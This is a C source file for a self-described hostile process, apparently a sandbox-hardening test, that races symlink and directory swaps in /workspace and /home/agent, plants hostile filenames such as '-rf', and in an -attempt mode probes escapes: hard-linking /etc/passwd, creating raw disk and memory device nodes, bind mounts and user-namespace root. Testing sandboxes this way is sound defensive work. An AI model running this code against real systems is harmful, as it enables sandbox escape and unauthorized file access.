// A hostile process that tries to get out of its sandbox. In the workspace and in HOME it swaps directories and files,
// without a pause, for links that lead outside, and restores what others removed. Linked statically, for any image.
//
//   racer TARGET...         runs until it is killed; it swaps in the first target most often
//   racer -attempt PATH...  tries the ways out that need no race, and prints which of them were open

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

// A walk of a tree keeps fewer levels open.
enum { DEEP = 100, ERASED = 16, EXCHANGE = 2 };

static unsigned long swaps;

static void swap(int root, const char *a, const char *b) {
    if (syscall(SYS_renameat2, root, a, root, b, EXCHANGE) == 0) swaps++;
}

static void put(int dir, const char *name) {
    int file = openat(dir, name, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0644);
    if (file < 0) return;
    if (write(file, "harmless", 8) != 8) unlinkat(dir, name, 0);
    close(file);
}

static int is(int root, const char *name, mode_t kind) {
    struct stat found;
    return fstatat(root, name, &found, AT_SYMLINK_NOFOLLOW) == 0 && (found.st_mode & S_IFMT) == kind;
}

static void fill(int root, const char *name) {
    int dir = openat(root, name, O_DIRECTORY | O_NOFOLLOW);
    if (dir < 0) return;
    put(dir, "f");
    mkdirat(dir, "sub", 0755);
    int sub = openat(dir, "sub", O_DIRECTORY | O_NOFOLLOW);
    if (sub >= 0) put(sub, "f"), close(sub);
    close(dir);
}

// Makes one of the two names a directory and the other one a link, whatever other processes made of them.
static void pair(int root, const char *a, const char *b, const char *target) {
    if (is(root, a, S_IFDIR) && is(root, b, S_IFDIR)) {
        char aside[300];
        snprintf(aside, sizeof aside, "%s-was-%lu", b, swaps);
        renameat(root, b, root, aside);
    }
    if (!is(root, a, S_IFDIR) && !is(root, b, S_IFDIR)) unlinkat(root, a, 0), mkdirat(root, a, 0755);
    const char *other = is(root, a, S_IFDIR) ? b : a;
    if (!is(root, other, S_IFLNK)) unlinkat(root, other, 0), symlinkat(target, root, other);
    fill(root, a);
    fill(root, b);
}

static void chain(int root, const char *name, int deep, const char *step) {
    mkdirat(root, name, 0755);
    int at = openat(root, name, O_DIRECTORY | O_NOFOLLOW);
    for (int level = 0; at >= 0 && level < deep; level++) {
        put(at, "f");
        mkdirat(at, step, 0755);
        int next = openat(at, step, O_DIRECTORY | O_NOFOLLOW);
        close(at);
        at = next;
    }
    if (at >= 0) close(at);
}

static void bind_socket(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int one = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(one, (struct sockaddr *)&address, sizeof address) != 0 && errno != EADDRINUSE) perror("bind");
    close(one);
}

static void furnish(int root, const char *path) {
    char longest[256] = {0}, socket_path[64];
    memset(longest, 'x', 255);
    const char *odd[] = {"new\nline", "\xff\xfe\x80", "-rf", " ", "*", "\x1b[2J", "..."};
    for (unsigned i = 0; i < sizeof odd / sizeof *odd; i++) put(root, odd[i]);
    put(root, longest);
    longest[250] = 0;
    // Longer than any path that the kernel accepts.
    chain(root, "long", 20, longest);
    chain(root, "deep", DEEP, "d");
    chain(root, "deeper", DEEP, "d");
    // A whiteout of overlay file systems, which any user may create.
    mknodat(root, "whiteout", S_IFCHR, makedev(0, 0));
    for (const char *const *name = (const char *[]){"pipe", "socket", "node_modules", NULL}; *name; name++)
        mkdirat(root, *name, 0755);
    mkfifoat(root, "pipe/p", 0666);
    snprintf(socket_path, sizeof socket_path, "%s/socket/s", path);
    bind_socket(socket_path);
    put(root, "shut"), fchmodat(root, "shut", 0, 0);
    mkdirat(root, "closed", 0755), put(root, "closed/f"), fchmodat(root, "closed", 0, 0);
    int huge = openat(root, "node_modules/huge", O_WRONLY | O_CREAT, 0644);
    if (huge >= 0 && ftruncate(huge, 200 << 20) != 0) perror("huge");
    close(huge);
}

static void mend(int root, int count, char **targets) {
    char d[32], l[32], f[32], g[32], file[4096];
    for (int i = 0; i < count; i++) {
        snprintf(d, sizeof d, "d%d", i), snprintf(l, sizeof l, "l%d", i);
        pair(root, d, l, targets[i]);
        snprintf(d, sizeof d, "s%d", i), snprintf(f, sizeof f, "s%d/f", i), snprintf(g, sizeof g, "s%d/g", i);
        snprintf(file, sizeof file, "%s/f", targets[i]);
        mkdirat(root, d, 0755);
        if (!is(root, f, S_IFREG) && !is(root, g, S_IFREG)) unlinkat(root, f, 0), put(root, f);
        const char *other = is(root, f, S_IFREG) ? g : f;
        if (!is(root, other, S_IFLNK)) unlinkat(root, other, 0), symlinkat(file, root, other);
    }
    mkdirat(root, "erased", 0755);
    int erased = openat(root, "erased", O_DIRECTORY | O_NOFOLLOW);
    if (erased >= 0) {
        for (int i = 0; i < ERASED; i++) {
            snprintf(d, sizeof d, "d%d", i), snprintf(l, sizeof l, "l%d", i);
            pair(erased, d, l, targets[1]);
        }
        linkat(root, "swaps", erased, "hard", 0);
        close(erased);
    }
    put(root, "pipe/f"), put(root, "socket/f"), put(root, "small");
    mkdirat(root, "up", 0755), mkdirat(root, "down", 0755);
    if (!is(root, "up/in", S_IFDIR) && !is(root, "down/in", S_IFDIR)) mkdirat(root, "up/in", 0755);
    fill(root, "up/in"), fill(root, "down/in");
}

// A name that is a file now and a link to the outside in a moment; and a folder whose parent changes.
static void relink(int root) {
    unlinkat(root, "hard", 0);
    if (linkat(root, "s1/f", root, "hard", 0) == 0) swaps++;
    if (renameat(root, "up/in", root, "down/in") == 0 || renameat(root, "down/in", root, "up/in") == 0) swaps++;
}

static void race(int root, int count) {
    char a[32], b[32];
    for (int i = 0; i < count; i++) {
        snprintf(a, sizeof a, "d%d", i), snprintf(b, sizeof b, "l%d", i);
        swap(root, a, b);
        snprintf(a, sizeof a, "s%d/f", i), snprintf(b, sizeof b, "s%d/g", i);
        swap(root, a, b);
        swap(root, "d0", "l0");
    }
    for (int i = 0; i < ERASED; i++) {
        snprintf(a, sizeof a, "erased/d%d", i), snprintf(b, sizeof b, "erased/l%d", i);
        swap(root, a, b);
    }
    swap(root, "pipe/f", "pipe/p");
    swap(root, "socket/f", "socket/s");
    swap(root, "small", "node_modules/huge");
    swap(root, "deep", "deeper");
    swap(root, "deep/d/d/d", "deeper/d");
    relink(root);
}

static void attempt(int count, char **paths) {
    char link_name[32];
    for (int i = 0; i < count; i++) {
        if (open(paths[i], O_RDONLY) >= 0) printf("read %s\n", paths[i]);
        snprintf(link_name, sizeof link_name, "hard-%d", i);
        if (link(paths[i], link_name) == 0) printf("linked %s\n", paths[i]);
        if (mount(paths[i], "/workspace", NULL, MS_BIND, NULL) == 0) printf("mounted %s\n", paths[i]);
    }
    if (link("/etc/passwd", "hard-etc") == 0) printf("linked /etc/passwd\n");
    if (mknod("disk", S_IFBLK | 0666, makedev(8, 0)) == 0) printf("made a disk\n");
    if (mknod("memory", S_IFCHR | 0666, makedev(1, 1)) == 0) printf("made the memory\n");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) printf("became root\n");
    if (renameat(AT_FDCWD, "/workspace", AT_FDCWD, "/tmp/workspace") == 0) printf("moved the workspace\n");
}

int main(int count, char **words) {
    if (count > 1 && strcmp(words[1], "-attempt") == 0) return attempt(count - 2, words + 2), 0;
    int roots[] = {open("/workspace", O_DIRECTORY), open("/home/agent", O_DIRECTORY)};
    const char *paths[] = {"/workspace", "/home/agent"};
    for (int i = 0; i < 2; i++) furnish(roots[i], paths[i]);
    for (unsigned long round = 0;; round++) {
        char told[32];
        for (int i = 0; i < 2; i++) {
            if (round % 64 == 0) mend(roots[i], count - 1, words + 1);
            race(roots[i], count - 1);
        }
        if (round % 64) continue;
        int file = openat(roots[0], "swaps", O_WRONLY | O_CREAT, 0644);
        if (pwrite(file, told, snprintf(told, sizeof told, "%020lu", swaps), 0) < 0) perror("swaps");
        close(file);
    }
}
